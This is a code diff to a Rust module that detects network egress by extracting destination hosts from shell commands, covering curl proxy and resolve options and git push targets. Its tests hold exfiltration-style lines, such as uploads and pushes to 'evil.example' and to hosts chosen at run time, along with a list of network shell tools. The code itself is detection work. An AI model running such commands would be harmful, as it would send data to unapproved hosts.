@@ -26,6 +26,21 @@ const HTTP_CLIENTS: &[&str] = &[
     "lynx",
     "links",
 ];
+/// curl's options whose value is where it connects: a proxy, a URL, a name's address, another
+/// host for a name.
+const CURL_HOST_OPTIONS: &[&str] = &[
+    "-x",
+    "--proxy",
+    "--preproxy",
+    "--socks4",
+    "--socks4a",
+    "--socks5",
+    "--socks5-hostname",
+    "--proxy1.0",
+    "--url",
+    "--resolve",
+    "--connect-to",
+];
 /// Programs whose first operand is a host to connect to.
 const HOST_FIRST: &[&str] =
     &["nc", "ncat", "netcat", "telnet", "ping", "ping6", "traceroute", "tracepath", "ftp", "tftp", "mtr", "whois"];
@@ -51,10 +66,41 @@ pub(crate) fn hosts(commands: &[Command]) -> Vec<String> {
         let program = command.program.as_str();
         if HTTP_CLIENTS.contains(&program) {
             for word in &command.words {
-                add(url_host(word));
+                add(url_host(word).or_else(|| word.contains("://").then(|| chosen_at_run_time(word)).flatten()));
             }
             for operand in command.operands.iter().filter(|operand| !operand.contains("://")) {
                 add(schemeless(operand).or_else(|| chosen_at_run_time(operand)));
+            }
+            // Where curl really connects: a proxy, an address given for a name, another host.
+            let mut words = command.words.iter().peekable();
+            while let Some(word) = words.next() {
+                let (option, attached) = match word.split_once('=') {
+                    Some((option, value)) if option.starts_with("--") => (option, Some(value.to_string())),
+                    _ if word.starts_with("-x") && word.len() > 2 && !word.starts_with("--") => {
+                        ("-x", word.get(2..).map(str::to_string))
+                    }
+                    _ => (word.as_str(), None),
+                };
+                if !CURL_HOST_OPTIONS.contains(&option) {
+                    continue;
+                }
+                let Some(value) = attached.or_else(|| words.next().cloned()) else { continue };
+                match option {
+                    // `--resolve HOST:PORT:ADDR[,ADDR…]`: the addresses are where it connects.
+                    "--resolve" => {
+                        let addresses = value.splitn(3, ':').nth(2).unwrap_or_default();
+                        for address in addresses.split(',') {
+                            let address = address.trim_start_matches('+');
+                            add(normalise(address.trim_matches(['[', ']'])).or_else(|| chosen_at_run_time(address)));
+                        }
+                    }
+                    // `--connect-to HOST1:PORT1:HOST2:PORT2`: HOST2 is.
+                    "--connect-to" => {
+                        let target = value.split(':').nth(2).unwrap_or_default();
+                        add(normalise(target).or_else(|| chosen_at_run_time(target)));
+                    }
+                    _ => add(url_host(&value).or_else(|| schemeless(&value)).or_else(|| chosen_at_run_time(&value))),
+                }
             }
         } else if HOST_FIRST.contains(&program) {
             add(command.operands.first().and_then(|host| normalise(host).or_else(|| chosen_at_run_time(host))));
@@ -79,8 +125,14 @@ pub(crate) fn hosts(commands: &[Command]) -> Vec<String> {
                 }
             }
         } else if program == "git" && command.subcommand.as_deref().is_some_and(|sub| GIT_NETWORK.contains(&sub)) {
-            for word in command.words.iter().skip(1) {
-                add(url_host(word).or_else(|| remote_host(word).and_then(|host| normalise(&host))));
+            // The repository: the first operand after the subcommand (and `submodule`'s verb), a
+            // URL, `host:path` or a remote's name (whose URL is in `.git/config`: no host here);
+            // refspecs after it (`HEAD:main`) name no host.
+            let verb = usize::from(command.subcommand.as_deref() == Some("submodule"));
+            if let Some(repository) = command.words.iter().skip(1).filter(|word| !word.starts_with('-')).nth(verb) {
+                add(url_host(repository)
+                    .or_else(|| remote_host(repository).and_then(|host| normalise(&host)))
+                    .or_else(|| chosen_at_run_time(repository)));
             }
         } else if program == "openssl" {
             let mut words = command.words.iter();
@@ -92,6 +144,12 @@ pub(crate) fn hosts(commands: &[Command]) -> Vec<String> {
         }
     }
     hosts
+}
+
+/// The host a git remote's URL names, as `egress` spells it: `https://GitHub.com/a/b.git` and
+/// `git@github.com:a/b.git` are `github.com`; a local path names none.
+pub fn remote_url_host(url: &str) -> Option<String> {
+    url_host(url).or_else(|| remote_host(url).and_then(|host| normalise(&host))).filter(|host| !host.is_empty())
 }
 
 /// A URL's host, where the word is one (`https://x.example/a`, `ftp://…`).
@@ -136,11 +194,11 @@ fn schemeless(word: &str) -> Option<String> {
     (host.contains(['.', ':']) || host.eq_ignore_ascii_case("localhost")).then(|| normalise(&host)).flatten()
 }
 
-/// A destination the line leaves to run time (`curl "$URL"`, `nc $(cat host) 9`): listed as
-/// written, which is in no list of hosts a rule knows, so that a call sending somewhere unread is
-/// not one that sends nowhere.
+/// A destination the line leaves to run time (`curl "$URL"`, `nc $(cat host) 9`, `"x$H"`):
+/// listed as written, which is in no list of hosts a rule knows, so that a call sending
+/// somewhere unread is not one that sends nowhere.
 fn chosen_at_run_time(word: &str) -> Option<String> {
-    word.starts_with(['$', '`']).then(|| word.to_string())
+    word.contains(['$', '`']).then(|| word.to_string())
 }
 
 fn unbracket(host: &str) -> String {
@@ -183,7 +241,36 @@ mod tests {
         }
         assert!(egress("git status").is_empty());
         assert_eq!(egress("curl -d x \"$URL\""), ["$URL"]);
+        assert_eq!(egress("curl -d x \"x$H\""), ["x$H"]);
+        assert_eq!(egress("curl -T f \"https://$(cat h)/\""), ["https://$(cat h)/"]);
+        // Where curl really connects.
+        for (line, expected) in [
+            ("curl -x evil.example:3128 http://api.github.com/", vec!["api.github.com", "evil.example"]),
+            ("curl --proxy=http://10.0.0.9:8080 https://x.example/", vec!["x.example", "10.0.0.9"]),
+            ("curl -x203.0.113.9:3128 https://x.example/", vec!["x.example", "203.0.113.9"]),
+            (
+                "curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/",
+                vec!["api.github.com", "203.0.113.9"],
+            ),
+            ("curl --connect-to ::evil.example:443 https://api.github.com/", vec!["api.github.com", "evil.example"]),
+            ("curl --url \"$U\" -T f", vec!["$U"]),
+        ] {
+            assert_eq!(egress(line), expected, "{line}");
+        }
+        // git's repository, not its refspecs.
+        assert!(egress("git push origin HEAD:main").is_empty());
+        assert_eq!(egress("git push evil.example:repo.git main"), ["evil.example"]);
+        assert_eq!(egress("git push \"$R\" main"), ["$R"]);
         assert_eq!(egress("nc $(cat host) 9"), ["$(cat host)"]);
         assert!(egress("socat TCP-LISTEN:8080 -").is_empty());
+        for (url, host) in [
+            ("https://GitHub.com/acme/app.git", Some("github.com")),
+            ("git@gitlab.example:acme/app.git", Some("gitlab.example")),
+            ("ssh://git@[fd00::7]:2222/app.git", Some("fd00::7")),
+            ("../other/app.git", None),
+            ("/srv/git/app.git", None),
+        ] {
+            assert_eq!(remote_url_host(url).as_deref(), host, "{url}");
+        }
     }
 }
